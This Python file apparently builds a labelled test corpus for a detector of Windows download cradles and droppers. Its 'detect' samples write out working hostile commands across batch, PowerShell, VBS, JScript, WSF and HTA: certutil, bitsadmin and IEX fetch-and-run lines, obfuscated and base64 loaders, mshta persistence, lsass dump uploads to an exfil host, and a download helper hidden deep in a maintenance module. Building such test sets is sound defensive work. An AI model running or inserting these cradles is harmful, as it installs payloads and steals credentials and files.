# Windows carriers: batch, powershell, wsh-vbs, wsh-js, wsf, hta.
from common import C, ps_enc, b64

LOL = "LOLBAS"
SIG = "Sigma"
ART = "atomic-red-team T1105"


_B64SB_PAYLOAD = ("(New-Object Net.WebClient).DownloadFile('http://203.0.113.205/k.exe', \"$env:TEMP\\k.exe\"); "
                  "Start-Process \"$env:TEMP\\k.exe\"")
_B64SB_TAIL = r"""$sb = [scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($e)))
& $sb
"""

_FN = r"""function {name} {{
    [CmdletBinding()]
    param([string]$ComputerName = $env:COMPUTERNAME)
    Write-Verbose "{name} on $ComputerName"
    $result = @()
    Get-CimInstance -ClassName Win32_OperatingSystem -ComputerName $ComputerName | ForEach-Object {{
        $result += [pscustomobject]@{{ Name = $_.CSName; Step = {i} }}
    }}
    $result
}}
"""
LONG_PSM1 = ("# Maintenance module\nSet-StrictMode -Version Latest\n\n" + "\n".join(
    _FN.format(name=n, i=i) for i, n in enumerate(
        ["Get-DiskReport", "Clear-TempFolder", "Get-ServiceReport", "Test-PendingReboot",
         "Get-EventSummary", "Reset-IISPool", "Get-CertExpiry", "Set-LogRetention"])) + r"""
function Update-MaintTools {
    param([string]$Dest = "$env:ProgramData\Maint")
    $src = 'http://198.51.100.250/maint/tools.zip'
    (New-Object System.Net.WebClient).DownloadFile($src, "$Dest\tools.zip")
    Expand-Archive "$Dest\tools.zip" $Dest -Force
}

Update-MaintTools
Export-ModuleMember -Function *
""")

# ================================================================ batch: detect
C("h3-bat-forfiles-curl-01", "forfiles /c wrapper launching curl.exe download", "batch",
  "/opt/win/h3/forfiles-get.cmd", "detect", r"""@echo off
forfiles /p C:\Windows\System32 /m notepad.exe /c "cmd /c curl.exe -s -o C:\Users\Public\np.exe http://203.0.113.71/np.exe"
""")

C("h3-bat-conhost-headless-ps-02", "conhost --headless wrapper running hidden PowerShell DownloadFile", "batch",
  "/opt/win/h3/conhost.bat", "detect", r"""@echo off
conhost.exe --headless powershell.exe -nop -w hidden -c "(New-Object Net.WebClient).DownloadFile('http://198.51.100.41/u.exe','%PUBLIC%\u.exe'); Start-Process '%PUBLIC%\u.exe'"
""")

C("h3-bat-print-webdav-03", LOL + " Print.exe /D: copy from a WebDAV/UNC source", "batch",
  "/opt/win/h3/print-copy.bat", "detect", r"""@echo off
print /D:C:\ProgramData\svc.exe \\203.0.113.44@80\DavWWWRoot\tools\svc.exe
C:\ProgramData\svc.exe
""")

C("h3-bat-appinstaller-04", LOL + " AppInstaller ms-appinstaller:?source= remote", "batch",
  "/opt/win/h3/appinst.cmd", "detect", r"""@echo off
start ms-appinstaller://?source=https://apps.installer.example/pkg/helper.appx
""")

C("h3-bat-makecab-unc-05", LOL + " Makecab from a UNC path on a remote host", "batch",
  "/opt/win/h3/makecab.bat", "detect", r"""@echo off
makecab \\198.51.100.20\share\payload.exe C:\ProgramData\p.cab
expand C:\ProgramData\p.cab C:\ProgramData\p.exe
""")

C("h3-bat-presentationhost-06", LOL + " Presentationhost.exe remote xbap", "batch",
  "/opt/win/h3/xbap.cmd", "detect", r"""@echo off
C:\Windows\System32\PresentationHost.exe https://203.0.113.17/app/launcher.xbap
""")

C("h3-bat-photoviewer-rundll-07", LOL + " rundll32 PhotoViewer.dll/shimgvw.dll ImageView_Fullscreen <url>", "batch",
  "/opt/win/h3/imgview.bat", "detect", r"""@echo off
rundll32.exe "C:\Program Files\Windows Photo Viewer\PhotoViewer.dll",ImageView_Fullscreen http://198.51.100.8/img/stage.exe
rundll32.exe c:\Windows\System32\shimgvw.dll,ImageView_Fullscreen http://198.51.100.8/img/stage2.exe
""")

C("h3-bat-msxsl-remote-08", LOL + " msxsl.exe with remote XML/XSL", "batch",
  "/opt/win/h3/msxsl.cmd", "detect", r"""@echo off
msxsl.exe https://203.0.113.99/x/data.xml https://203.0.113.99/x/transform.xsl -o C:\Temp\out.txt
""")

C("h3-bat-office-remote-09", LOL + " Office binaries opening a remote URL (Winword/Excel)", "batch",
  "/opt/win/h3/office-open.bat", "detect", r"""@echo off
start "" "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" https://docs.files.example/share/invoice.exe
""")

C("h3-bat-pushd-unc-copy-10", "pushd to a remote UNC share then copy a binary locally", "batch",
  "/opt/win/h3/pushd-copy.cmd", "detect", r"""@echo off
pushd \\fileserver.corp.example\deploy\agent
copy /y agent.exe "%ProgramData%\Agent\agent.exe"
popd
"%ProgramData%\Agent\agent.exe" /install
""")

C("h3-bat-net-use-copy-11", "net use of a remote share then copy from the mapped drive", "batch",
  "/opt/win/h3/netuse.bat", "detect", r"""@echo off
net use Z: \\198.51.100.60\tools /user:svc P@ssw0rd /persistent:no
copy Z:\psexec.exe %TEMP%\psexec.exe
net use Z: /delete /y
""")

C("h3-bat-comspec-certutil-12", "%COMSPEC% /c certutil with -split -urlcache -f and quoted paths", "batch",
  "/opt/win/h3/comspec.bat", "detect", r"""@echo off
%COMSPEC% /c "certutil -split -urlcache -f "http://203.0.113.25/tools/nc.exe" "%TEMP%\nc64.exe""
""")

C("h3-bat-bitsadmin-public-13", SIG + " 'File Download Via Bitsadmin To A Suspicious Target Folder' (C:\\Users\\Public)", "batch",
  "/opt/win/h3/bits-public.bat", "detect", r"""@echo off
C:\Windows\System32\bitsadmin.exe /transfer upd /priority high http://198.51.100.73/upd.dll C:\Users\Public\Libraries\upd.dll
rundll32 C:\Users\Public\Libraries\upd.dll,Start
""")

C("h3-bat-curl-upload-win-14", SIG + " 'Potential Data Exfiltration Via Curl.EXE' (-F / --upload-file)", "batch",
  "/opt/win/h3/exfil.cmd", "detect", r"""@echo off
curl.exe -F "file=@C:\Users\Public\dump.zip" https://drop.exfil.example/upload
curl.exe --upload-file C:\Windows\Temp\lsass.dmp ftp://198.51.100.70/in/
""")

C("h3-bat-wmic-create-ps-15", "wmic process call create powershell IWR", "batch",
  "/opt/win/h3/wmic-create.bat", "detect", r"""@echo off
wmic process call create "powershell -nop -c Invoke-WebRequest -Uri http://203.0.113.36/r.exe -OutFile C:\Windows\Temp\r.exe"
""")

C("h3-bat-reg-run-mshta-16", "Run-key persistence with mshta remote .hta", "batch",
  "/opt/win/h3/persist-run.cmd", "detect", r"""@echo off
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "mshta.exe https://198.51.100.121/u.hta" /f
""")

C("h3-bat-call-label-var-17", "batch: URL passed to a :label subroutine via call", "batch",
  "/opt/win/h3/sub.bat", "detect", r"""@echo off
setlocal
call :fetch "http://203.0.113.58/pkg/tool.exe" "%LOCALAPPDATA%\tool.exe"
start "" "%LOCALAPPDATA%\tool.exe"
goto :eof

:fetch
powershell -NoProfile -Command "Invoke-WebRequest -Uri '%~1' -OutFile '%~2'"
exit /b 0
""")

C("h3-bat-ps-encoded-hidden-18", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand", "batch",
  "/opt/win/h3/enc-hidden.bat", "detect", "@echo off\r\npowershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand " +
  ps_enc("$u='http://198.51.100.84/s.ps1';IEX ([Net.WebClient]::new().DownloadString($u))") + "\r\n")

C("h3-bat-curl-tar-extract-19", "curl.exe then tar.exe extract and run (Windows 10 built-ins)", "batch",
  "/opt/win/h3/curl-tar.bat", "detect", r"""@echo off
cd /d %TEMP%
curl.exe -L -o kit.zip https://203.0.113.114/kit.zip
tar.exe -xf kit.zip
start /b kit\run.exe
""")

C("h3-bat-wsl-curl-20", LOL + " wsl.exe running curl inside the Linux side", "batch",
  "/opt/win/h3/wsl-curl.cmd", "detect", r"""@echo off
wsl.exe -e /bin/sh -c "curl -s http://198.51.100.160/l.sh | sh"
""")

C("h3-bat-start-min-pwsh-irm-21", "start /min pwsh -c irm | iex from batch", "batch",
  "/opt/win/h3/pwsh-start.bat", "detect", r"""@echo off
start "" /min pwsh.exe -NoLogo -Command "irm https://scripts.tools.example/setup.ps1 | iex"
""")

# ================================================================ batch: silent
C("h3-bat-silent-local-health-01", "look-alike: curl.exe to 127.0.0.1 health and findstr", "batch",
  "/opt/win/h3/health.cmd", "silent", r"""@echo off
curl.exe -s http://127.0.0.1:8080/health | findstr /i "UP" >nul
if errorlevel 1 exit /b 1
""")

C("h3-bat-silent-echo-help-02", "look-alike: echo usage text naming bitsadmin and certutil", "batch",
  "/opt/win/h3/usage.bat", "silent", r"""@echo off
echo Offline installer.
echo If you need the online version, ask IT; do not use bitsadmin or certutil -urlcache.
echo Usage: install.bat [/quiet]
""")

C("h3-bat-silent-xcopy-local-03", "look-alike: xcopy/copy between local folders", "batch",
  "/opt/win/h3/stage-local.bat", "silent", r"""@echo off
xcopy /e /i /y "%~dp0payload" "C:\Program Files\App\"
copy /y "%~dp0config.default.xml" "C:\ProgramData\App\config.xml"
""")

C("h3-bat-silent-rem-04", "look-alike: REM'ed out download lines", "batch",
  "/opt/win/h3/old-install.cmd", "silent", r"""@echo off
REM previous version pulled the installer:
REM   bitsadmin /transfer job http://files.example.com/setup.exe %TEMP%\setup.exe
:: powershell -c "iwr http://files.example.com/setup.exe -OutFile setup.exe"
"%~dp0setup.exe" /S
""")

# ================================================================ powershell: detect
C("h3-ps-iwr-splatting-01", "Invoke-WebRequest with a splatted hashtable (@params)", "powershell",
  "/opt/win/h3/ps/Get-Agent.ps1", "detect", r"""$params = @{
    Uri             = 'http://203.0.113.128/agent/agent.msi'
    OutFile         = "$env:TEMP\agent.msi"
    UseBasicParsing = $true
}
Invoke-WebRequest @params
Start-Process msiexec.exe -ArgumentList "/i `"$env:TEMP\agent.msi`" /qn" -Wait
""")

C("h3-ps-format-operator-obf-02", "Invoke-Obfuscation style -f format operator building DownloadString", "powershell",
  "/opt/win/h3/ps/fmt.ps1", "detect", r"""$m = ("{1}{0}" -f 'String','Download')
$w = New-Object ("{0}{1}" -f 'Net.Web','Client')
IEX ($w.$m('http://198.51.100.200/p.ps1'))
""")

C("h3-ps-set-alias-iwr-03", "Set-Alias to Invoke-WebRequest then call through the alias", "powershell",
  "/opt/win/h3/ps/alias.ps1", "detect", r"""Set-Alias -Name grab -Value Invoke-WebRequest
grab -Uri 'https://203.0.113.12/tools/procdump.exe' -OutFile "$env:ProgramData\pd.exe"
""")

C("h3-ps-irm-outfile-04", "Invoke-RestMethod -OutFile (download to disk)", "powershell",
  "/opt/win/h3/ps/irm-out.ps1", "detect", r"""$ProgressPreference = 'SilentlyContinue'
Invoke-RestMethod -Uri "https://releases.tools.example/cli/latest/cli.zip" -OutFile "C:\Tools\cli.zip"
Expand-Archive -Path C:\Tools\cli.zip -DestinationPath C:\Tools\cli -Force
""")

C("h3-ps-downloadfileasync-05", "WebClient.DownloadFileAsync with System.Uri", "powershell",
  "/opt/win/h3/ps/async.ps1", "detect", r"""$wc = New-Object System.Net.WebClient
$wc.DownloadFileAsync([System.Uri]'http://198.51.100.19/big.bin', 'C:\ProgramData\big.bin')
while ($wc.IsBusy) { Start-Sleep -Milliseconds 200 }
""")

C("h3-ps-downloaddata-assembly-load-06", "DownloadData + [Reflection.Assembly]::Load (in-memory .NET payload)", "powershell",
  "/opt/win/h3/ps/reflect.ps1", "detect", r"""$wc = New-Object Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0')
$bytes = $wc.DownloadData('https://203.0.113.140/lib/Stage.dll')
$asm = [System.Reflection.Assembly]::Load($bytes)
$asm.GetType('Stage.Entry').GetMethod('Run').Invoke($null, @())
""")

C("h3-ps-iwr-put-infile-07", "Invoke-WebRequest -Method Put -InFile (upload)", "powershell",
  "/opt/win/h3/ps/upload.ps1", "detect", r"""Compress-Archive -Path "$env:USERPROFILE\Documents\*" -DestinationPath "$env:TEMP\d.zip" -Force
Invoke-WebRequest -Uri "http://198.51.100.210/put/d.zip" -Method Put -InFile "$env:TEMP\d.zip" -UseBasicParsing
""")

C("h3-ps-microsoft-xmlhttp-com-08", SIG + " COM cradle: New-Object -ComObject Microsoft.XMLHTTP", "powershell",
  "/opt/win/h3/ps/xmlhttp.ps1", "detect", r"""$h = New-Object -ComObject Microsoft.XMLHTTP
$h.open('GET', 'http://203.0.113.160/c.ps1', $false)
$h.send()
iex $h.responseText
""")

C("h3-ps-tcpclient-raw-09", "raw TcpClient stream download to a file", "powershell",
  "/opt/win/h3/ps/tcp.ps1", "detect", r"""$c = New-Object System.Net.Sockets.TcpClient('198.51.100.101', 4444)
$s = $c.GetStream()
$f = [System.IO.File]::Create('C:\ProgramData\t.exe')
$s.CopyTo($f)
$f.Close(); $c.Close()
""")

C("h3-ps-import-module-unc-10", "Import-Module / dot-source from a remote UNC share", "powershell",
  "/opt/win/h3/ps/unc-load.ps1", "detect", r"""Import-Module \\203.0.113.30\scripts\Recon.psm1 -Force
. \\203.0.113.30\scripts\helpers.ps1
Invoke-Recon
""")

C("h3-ps-webclient-proxy-creds-11", ART + " style WebClient.DownloadFile with system proxy and default credentials", "powershell",
  "/opt/win/h3/ps/proxy-dl.ps1", "detect", r"""$wc = New-Object System.Net.WebClient
$wc.Proxy = [System.Net.WebRequest]::GetSystemWebProxy()
$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials
$wc.DownloadFile("https://203.0.113.90/bin/rclone.exe", "$env:APPDATA\rclone.exe")
& "$env:APPDATA\rclone.exe" version
""")

C("h3-ps-utf8-b64-scriptblock-12", "UTF8 base64 decoded into a [scriptblock]::Create and invoked", "powershell",
  "/opt/win/h3/ps/b64sb.ps1", "detect", "$e = '" + b64(_B64SB_PAYLOAD) + "'\n" + _B64SB_TAIL)

C("h3-ps-invoke-command-sb-13", "Invoke-Command with a scriptblock containing iwr | iex", "powershell",
  "/opt/win/h3/ps/invoke-cmd.ps1", "detect", r"""Invoke-Command -ScriptBlock {
    iwr -UseBasicParsing -Uri http://198.51.100.135/boot.ps1 | iex
}
""")

C("h3-ps-serverxmlhttp-adodb-14", "Msxml2.ServerXMLHTTP + ADODB.Stream from PowerShell", "powershell",
  "/opt/win/h3/ps/sxh.ps1", "detect", r"""$x = New-Object -ComObject 'Msxml2.ServerXMLHTTP.6.0'
$x.open('GET', 'https://203.0.113.222/drop.exe', $false); $x.send()
$st = New-Object -ComObject ADODB.Stream
$st.Type = 1; $st.Open(); $st.Write($x.responseBody)
$st.SaveToFile("$env:TEMP\drop.exe", 2); $st.Close()
""")

C("h3-ps-cmd-c-certutil-15", "PowerShell launching cmd /c certutil -urlcache", "powershell",
  "/opt/win/h3/ps/cmd-cu.ps1", "detect", r"""& cmd.exe /c "certutil.exe -urlcache -f http://198.51.100.44/sv.exe %TEMP%\sv.exe && %TEMP%\sv.exe"
""")

C("h3-ps-mixed-case-aliases-16", "case variation with aliases: IEX / iWr / nEw-oBjEcT", "powershell",
  "/opt/win/h3/ps/case.ps1", "detect", r"""iEx ((nEw-oBjEcT sYsTeM.nEt.wEbClIeNt).dOwNlOaDsTrInG('http://203.0.113.63/a'))
iWr hTtP://203.0.113.63/b.exe -oUtFiLe $ENV:tmp\b.exe
""")

C("h3-ps-pwsh-linux-shebang-17", "pwsh script with a shebang on Linux: Invoke-WebRequest + chmod", "powershell",
  "/usr/local/bin/refresh-tools.ps1", "detect", r"""#!/usr/bin/env pwsh
$dest = '/usr/local/bin/yq'
Invoke-WebRequest -Uri 'https://dl.tools.example/yq/yq_linux_amd64' -OutFile $dest
chmod +x $dest
""", executable=True)

C("h3-ps-long-module-deep-18", "long module with a download helper far below the top", "powershell",
  "/opt/win/h3/ps/Modules/Maint/Maint.psm1", "detect", LONG_PSM1)

# ================================================================ powershell: silent
C("h3-ps-silent-local-api-01", "look-alike: Invoke-WebRequest to localhost health endpoint", "powershell",
  "/opt/win/h3/ps/Test-Health.ps1", "silent", r"""$r = Invoke-WebRequest -Uri http://localhost:5000/healthz -UseBasicParsing -TimeoutSec 5
if ($r.StatusCode -ne 200) { exit 1 }
""")

C("h3-ps-silent-comment-block-02", "look-alike: block comment and single-line comments with cradles", "powershell",
  "/opt/win/h3/ps/Setup-Local.ps1", "silent", r"""<#
  Older revision fetched the module remotely:
    IEX (New-Object Net.WebClient).DownloadString('http://files.example.com/m.ps1')
  This is now shipped in the image instead.
#>
# Start-BitsTransfer -Source http://files.example.com/x.zip -Destination C:\x.zip
Import-Module "$PSScriptRoot\Modules\Local.psm1"
""")

C("h3-ps-silent-write-host-03", "look-alike: Write-Host / Write-Verbose with download instructions", "powershell",
  "/opt/win/h3/ps/Show-Help.ps1", "silent", r"""Write-Host "To update manually, run: Invoke-WebRequest https://updates.example.com/app.zip -OutFile app.zip"
Write-Verbose "curl.exe and bitsadmin are not required in this image"
""")

C("h3-ps-silent-local-copy-hash-04", "look-alike: Copy-Item local paths and Get-FileHash", "powershell",
  "/opt/win/h3/ps/Stage.ps1", "silent", r"""Copy-Item -Path C:\Build\out\* -Destination D:\Deploy\ -Recurse -Force
Get-FileHash D:\Deploy\app.exe -Algorithm SHA256 | Format-List
Expand-Archive -Path C:\Build\assets.zip -DestinationPath D:\Deploy\assets -Force
""")

# ================================================================ wsh-vbs
C("h3-vbs-getobject-script-01", "VBS GetObject(\"script:http...\") remote scriptlet", "wsh-vbs",
  "/opt/win/h3/wsh/loader.vbs", "detect", r"""Set o = GetObject("script:http://203.0.113.104/s.sct")
""")

C("h3-vbs-executeglobal-xmlhttp-02", "VBS MSXML2.XMLHTTP responseText passed to ExecuteGlobal", "wsh-vbs",
  "/opt/win/h3/wsh/remote-exec.vbs", "detect", r"""Dim h
Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "http://198.51.100.180/stage.vbs", False
h.Send
If h.Status = 200 Then ExecuteGlobal h.responseText
""")

C("h3-vbs-run-curl-exe-03", "VBS WScript.Shell.Run cmd /c curl.exe -o and start", "wsh-vbs",
  "/opt/win/h3/wsh/run-curl.vbs", "detect", r"""Set sh = CreateObject("WScript.Shell")
sh.Run "cmd /c curl.exe -s -o %TEMP%\w.exe http://203.0.113.185/w.exe && start %TEMP%\w.exe", 0, False
""")

C("h3-vbs-xmlhttp30-adodb-run-04", "VBS MSXML2.XMLHTTP.3.0 + ADODB.Stream SaveToFile + Run", "wsh-vbs",
  "/opt/win/h3/wsh/dropper.vbs", "detect", r"""strUrl = "https://cdn.drop.example/pkg/helper.exe"
strOut = CreateObject("WScript.Shell").ExpandEnvironmentStrings("%APPDATA%") & "\helper.exe"
Set x = CreateObject("MSXML2.XMLHTTP.3.0")
x.Open "GET", strUrl, False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write x.ResponseBody
s.SaveToFile strOut, 2
s.Close
CreateObject("WScript.Shell").Run Chr(34) & strOut & Chr(34), 0
""")

C("h3-vbs-silent-fso-copy-01", "look-alike: VBS FileSystemObject copying local files", "wsh-vbs",
  "/opt/win/h3/wsh/backup.vbs", "silent", r"""Set fso = CreateObject("Scripting.FileSystemObject")
fso.CopyFile "C:\App\config.xml", "C:\App\backup\config.xml", True
WScript.Echo "backup done"
""")

C("h3-vbs-silent-comment-02", "look-alike: VBS with commented-out XMLHTTP download", "wsh-vbs",
  "/opt/win/h3/wsh/notes.vbs", "silent", r"""' Set x = CreateObject("MSXML2.XMLHTTP")
' x.Open "GET", "http://files.example.com/update.exe", False
Rem downloads were removed in v2
MsgBox "Updates are installed by the administrator.", vbInformation, "App"
""")

# ================================================================ wsh-js
C("h3-wshjs-getobject-script-01", "JScript GetObject(\"script:https...\")", "wsh-js",
  "/opt/win/h3/wsh/sct.js", "detect", r"""var o = GetObject("script:https://203.0.113.209/p.sct");
""")

C("h3-wshjs-serverxmlhttp-eval-02", "JScript Msxml2.ServerXMLHTTP.6.0 then eval(responseText)", "wsh-js",
  "/opt/win/h3/wsh/sxh-eval.js", "detect", r"""var r = new ActiveXObject("Msxml2.ServerXMLHTTP.6.0");
r.open("GET", "http://198.51.100.115/next.js", false);
r.send();
eval(r.responseText);
""")

C("h3-wshjs-shellexecute-ps-03", "JScript Shell.Application.ShellExecute powershell iwr", "wsh-js",
  "/opt/win/h3/wsh/shexec.js", "detect", r"""var app = new ActiveXObject("Shell.Application");
app.ShellExecute("powershell.exe", "-w hidden -c iwr http://203.0.113.136/x.exe -OutFile $env:TEMP\\x.exe; & $env:TEMP\\x.exe", "", "open", 0);
""")

C("h3-wshjs-silent-echo-01", "look-alike: JScript WScript.Echo of a URL and local env reads", "wsh-js",
  "/opt/win/h3/wsh/info.js", "silent", r"""var sh = new ActiveXObject("WScript.Shell");
WScript.Echo("Docs: https://docs.example.com/agent (open in a browser)");
WScript.Echo("TEMP is " + sh.ExpandEnvironmentStrings("%TEMP%"));
""")

# ================================================================ wsf
C("h3-wsf-remote-script-src-01", "WSF <script src=\"http...\"> loading remote JScript", "wsf",
  "/opt/win/h3/wsh/job.wsf", "detect", r"""<?xml version="1.0"?>
<package>
  <job id="main">
    <script language="JScript" src="http://198.51.100.144/lib/core.js"/>
    <script language="JScript">
      core_main();
    </script>
  </job>
</package>
""")

C("h3-wsf-vbs-xmlhttp-adodb-02", "WSF VBScript Microsoft.XMLHTTP + ADODB.Stream", "wsf",
  "/opt/win/h3/wsh/get.wsf", "detect", r"""<job id="get">
<script language="VBScript">
Set h = CreateObject("Microsoft.XMLHTTP")
h.Open "GET", "http://203.0.113.118/t.exe", False
h.Send
Set b = CreateObject("ADODB.Stream")
b.Type = 1 : b.Open : b.Write h.responseBody
b.SaveToFile "C:\Users\Public\t.exe", 2
</script>
</job>
""")

C("h3-wsf-silent-local-01", "look-alike: WSF reading a local INI file", "wsf",
  "/opt/win/h3/wsh/readini.wsf", "silent", r"""<job id="ini">
<script language="JScript">
var fso = new ActiveXObject("Scripting.FileSystemObject");
var f = fso.OpenTextFile("C:\\App\\app.ini", 1);
WScript.Echo(f.ReadAll());
f.Close();
</script>
</job>
""")

# ================================================================ hta
C("h3-hta-vbs-xmlhttp-adodb-01", "HTA VBScript XMLHTTP + ADODB.Stream + Run on load", "hta",
  "/opt/win/h3/ui/update.hta", "detect", r"""<html>
<head>
<HTA:APPLICATION ID="upd" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/>
<script language="VBScript">
Sub Window_OnLoad
  Set x = CreateObject("MSXML2.XMLHTTP")
  x.Open "GET", "http://198.51.100.51/upd.exe", False
  x.Send
  Set s = CreateObject("ADODB.Stream")
  s.Type = 1: s.Open: s.Write x.responseBody
  s.SaveToFile "C:\ProgramData\upd.exe", 2
  CreateObject("WScript.Shell").Run "C:\ProgramData\upd.exe", 0
  self.close
End Sub
</script>
</head>
<body></body>
</html>
""")

C("h3-hta-jscript-certutil-02", "HTA JScript running certutil download", "hta",
  "/opt/win/h3/ui/setup.hta", "detect", r"""<html><head>
<hta:application border="none" showintaskbar="no"/>
<script language="JScript">
new ActiveXObject("WScript.Shell").Run("certutil -urlcache -split -f https://203.0.113.233/s.exe %TEMP%\\s.exe", 0, true);
window.close();
</script>
</head><body>Loading...</body></html>
""")

C("h3-hta-silent-form-01", "look-alike: HTA form with a help link", "hta",
  "/opt/win/h3/ui/about.hta", "silent", r"""<html><head><title>About</title>
<hta:application applicationname="About"/>
</head>
<body>
<p>Version 3.2. Manual: <a href="https://docs.example.com/manual">docs.example.com</a></p>
<button onclick="window.close()">OK</button>
</body></html>
""")
